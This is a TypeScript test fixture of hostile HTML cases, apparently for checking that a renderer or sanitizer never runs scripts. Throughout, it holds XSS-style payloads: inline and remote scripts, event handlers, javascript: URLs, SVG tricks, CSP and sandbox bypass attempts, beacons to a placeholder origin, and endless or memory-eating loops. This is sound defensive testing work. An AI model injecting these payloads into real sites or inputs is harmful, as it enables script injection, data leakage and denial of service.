import type { HostileCase, HostileSite } from './hostileCase.ts';

/** Scripts never run, so each page is what it is without them. */
export const scriptCases = ({ origin, file }: HostileSite): readonly HostileCase[] => [
	{ name: 'a script', html: `<script>fetch('${origin}/a');document.body.textContent='owned'</script><p>text` },
	{ name: 'a script from elsewhere', html: `<script src="${origin}/a.js"></script><p>text` },
	{
		name: 'a deferred and an asynchronous script',
		html: `<script defer src="${origin}/a.js"></script><script async src="${origin}/b.js"></script><p>text`,
	},
	{
		name: 'a module',
		html: `<script type=module>import '${origin}/a.js';document.body.append('owned')</script><p>text`,
	},
	{ name: 'a module from elsewhere', html: `<script type=module src="${origin}/a.js" crossorigin></script><p>text` },
	{
		name: 'an import map',
		html: `<script type=importmap>{"imports":{"a":"${origin}/a.js"}}</script><script type=module>import 'a'</script><p>text`,
	},
	{
		name: 'a script in data',
		html: `<script src="data:text/javascript,document.documentElement.textContent='owned'"></script><p>text`,
	},
	{ name: 'a script from a file', html: `<script src="${file('canary.js')}"></script><p>text` },
	{ name: 'an endless script', html: '<script>for(;;);</script><p>text' },
	{ name: 'a script that eats memory', html: '<script>const a=[];for(;;)a.push(new Uint8Array(1e8))</script><p>text' },
	{ name: 'dialogs', html: '<script>alert(1);confirm(2);prompt(3);onbeforeunload=()=>"stay"</script><p>text' },
	{ name: 'a print, a close and a window', html: `<script>print();close();open('${origin}/a')</script><p>text` },
	{
		name: 'handlers of pictures and the body',
		html: `<img src=x onerror="location='${origin}/b'"><body onload="fetch('${origin}/c')" onpageshow="fetch('${origin}/d')">text`,
	},
	{
		name: 'handlers of focus, motion and toggling',
		html: `<style>@keyframes k{to{left:1px}}</style><input autofocus onfocus="fetch('${origin}/a')"><p style="animation:k 1ms" onanimationend="fetch('${origin}/b')">text<details open ontoggle="fetch('${origin}/c')"></details>`,
	},
	{ name: 'a handler of a drawing', html: `<svg onload="fetch('${origin}/a')" width=9 height=9></svg>text` },
	{
		name: 'a script in a drawing',
		html: `<svg width=9 height=9><script>document.body.textContent='owned'</script><script href="${origin}/a.js"/></svg>text`,
	},
	{
		name: 'a drawing that sets a script as address',
		html: `<svg width=9 height=9><a><set attributeName=href to="javascript:fetch('${origin}/a')"/><animate attributeName=href values="javascript:alert(1)"/></a></svg>text`,
	},
	{
		name: 'foreign content that would run',
		html: `<svg width=9 height=9><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="fetch('${origin}/a')"></body></foreignObject></svg>text`,
	},
	{
		name: 'addresses that are scripts',
		html: `<a href="javascript:fetch('${origin}/a')">te</a><a href=" jAvA&Tab;script:alert(1)">xt</a><form action="javascript:alert(1)"></form>`,
	},
	{
		name: 'a frame whose address is a script',
		html: `<iframe src="javascript:parent.document.body.textContent='owned'"></iframe>text`,
	},
	{
		name: 'a refresh to a script',
		html: `<meta http-equiv=refresh content="0;url=javascript:fetch('${origin}/a')">text`,
	},
	{
		name: 'a style that names a script',
		html: `<p style="background:url(javascript:alert(1));behavior:url(${origin}/a.htc);-moz-binding:url(${origin}/b.xml)">text`,
	},
	{
		name: 'a policy that allows more',
		html: `<meta http-equiv=Content-Security-Policy content="default-src * 'unsafe-inline' 'unsafe-eval'"><script>fetch('${origin}/a')</script>text`,
	},
	{
		name: 'a policy with reports',
		html: `<meta http-equiv=Content-Security-Policy content="default-src 'none'; report-uri ${origin}/a"><img src="${origin}/b">text`,
	},
	{
		name: 'a sandbox that allows scripts',
		html: `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>top.location='${origin}/a'</script>"></iframe>text`,
	},
	{
		name: 'sockets and channels',
		html: `<script>new WebSocket('${origin.replace('http', 'ws')}/a');new EventSource('${origin}/b');navigator.sendBeacon('${origin}/c');new RTCPeerConnection({iceServers:[{urls:'stun:${origin.slice(7)}'}]}).createOffer()</script>text`,
	},
	{
		name: 'a worker and a service worker',
		html: `<script>new Worker('${origin}/a.js');navigator.serviceWorker.register('/b.js');new SharedWorker('data:text/javascript,fetch("${origin}/c")')</script>text`,
	},
	{
		name: 'a script that waits in a shadow tree',
		html: `<div><template shadowrootmode=open><script>fetch('${origin}/a')</script><img src="${origin}/b" onerror="alert(1)">text</template></div>`,
	},
	{
		name: 'a custom element',
		html: `<script>customElements.define('x-y',class extends HTMLElement{connectedCallback(){fetch('${origin}/a')}})</script><x-y>text</x-y>`,
	},
	{
		name: 'scripts of other kinds',
		html: `<script type=text/vbscript>msgbox 1</script><script language=jscript>alert(1)</script><script type=webbundle>{"source":"${origin}/a","resources":["${origin}/b"]}</script>text`,
	},
	{
		name: 'an event that a fragment would start',
		html: `<p id=x style="scroll-margin:1px" onscrollend="fetch('${origin}/a')" oncontentvisibilityautostatechange="fetch('${origin}/b')">text`,
	},
];
